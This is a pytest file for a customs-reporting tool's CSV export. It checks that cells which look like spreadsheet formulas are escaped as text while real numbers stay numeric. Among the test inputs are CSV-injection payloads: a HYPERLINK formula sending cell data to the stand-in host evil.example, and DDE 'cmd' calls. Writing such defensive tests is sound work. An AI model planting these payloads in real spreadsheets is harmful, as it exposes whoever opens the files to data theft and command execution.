"""Tables as CSV: what a spreadsheet would compute is text in it, and what is a number stays one."""

import csv
import io
from datetime import UTC, datetime

import pytest
from rich.text import Text

from clearance.customs.v1.guarantee_pb2 import Guarantee
from clearance.gateway.v1.guarantee_release_service_pb2 import GuaranteeRelease
from tongguan.output import Output
from tongguan.report.guarantee_tables import guarantees_table, releases_table
from tongguan.report.summary import summarise
from tongguan.report.tables import summary_tables, table
from tongguan.spreadsheet import BYTE_ORDER_MARK, cell, write_tables


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Mule")',
        "+86574",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "  =1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_begins_as_a_formula_does_is_text(text: str) -> None:
    assert cell(text).startswith("'")
    assert not set(cell(text)) & set("\t\r")


@pytest.mark.parametrize("text", ["-5", "-1,204.50", "+3.2%", "17", "0.3333"])
def test_a_number_in_a_column_of_figures_stays_one(text: str) -> None:
    assert cell(text, figure=True) == text


def test_a_formula_in_a_column_of_figures_is_text_all_the_same() -> None:
    assert cell("-1+cmd|' /C calc'!A0", figure=True).startswith("'")


def test_a_dash_for_nothing_and_words_are_as_they_are() -> None:
    assert [cell(text) for text in ("-", "宁波远洋", "2007-C-HOU-0001", "a=b")] == [
        "-",
        "宁波远洋",
        "2007-C-HOU-0001",
        "a=b",
    ]


def test_a_table_reads_back_with_its_heading_whatever_stands_in_it() -> None:
    made = table("", "party", "count", numbers=["count"])
    made.add_row('Mule "Jenny", Ltd\x1b[2J', Text("-3"))
    target = io.StringIO(newline="")
    write_tables([made], target)
    assert list(csv.reader(io.StringIO(target.getvalue(), newline=""))) == [
        ["party", "count"],
        ['Mule "Jenny", Ltd\u241b[2J', "-3"],
    ]


def test_a_formula_behind_a_semicolon_stays_within_its_text_where_semicolons_part_cells() -> None:
    made = table("", "party")
    made.add_row("Mule;=HYPERLINK(1)")
    target = io.StringIO(newline="")
    write_tables([made], target)
    assert list(csv.reader(io.StringIO(target.getvalue(), newline=""), delimiter=";")) == [
        ["party"],
        ["Mule;=HYPERLINK(1)"],
    ]


def test_standard_output_has_tables_alone_after_the_mark_of_utf_8(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    output = Output(csv=True)
    made = table("", "name")
    made.add_row("宁波")
    output.show("in words", made)
    output.line({"name": "as JSON"})
    output.show("nothing more")
    told, said = capfdbinary.readouterr()
    assert told == f'{BYTE_ORDER_MARK}"name"\r\n"宁波"\r\n'.encode()
    assert b"in words" in said
    assert b"nothing more" in said


def test_several_tables_have_their_titles_and_an_empty_line_between(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    Output(csv=True).show(summary_tables(summarise([], datetime(2026, 7, 1, tzinfo=UTC))))
    told, _ = capfdbinary.readouterr()
    assert told.decode("utf-8-sig").split("\r\n")[:5] == [
        '"Where they stand"',
        '"state","count"',
        '"all","0"',
        "",
        '"How long the agencies took"',
    ]


def test_guarantees_are_rows_whose_amounts_are_numbers_of_the_currency() -> None:
    guarantee = Guarantee(grn="04CN3104000000014", type=Guarantee.TYPE_COMPREHENSIVE, holder_identifier="=1+1")
    guarantee.limit.currency_code, guarantee.limit.minor_units, guarantee.held_units = "CNY", 123_450, 50
    use = GuaranteeRelease(number="31002026TY0D8YSYWTQQ", generation=1, grns=["04CN3104000000014"])
    use.amount.currency_code, use.amount.minor_units = "JPY", 700
    target = io.StringIO(newline="")
    write_tables([guarantees_table([guarantee]), releases_table([use])], target)
    rows = list(csv.reader(io.StringIO(target.getvalue(), newline="")))
    assert rows[2][2] == "'=1+1"
    assert rows[2][6:10] == ["CNY", "1234.50", "0.00", "0.50"]
    assert rows[6][3:5] == ["700", "JPY"]
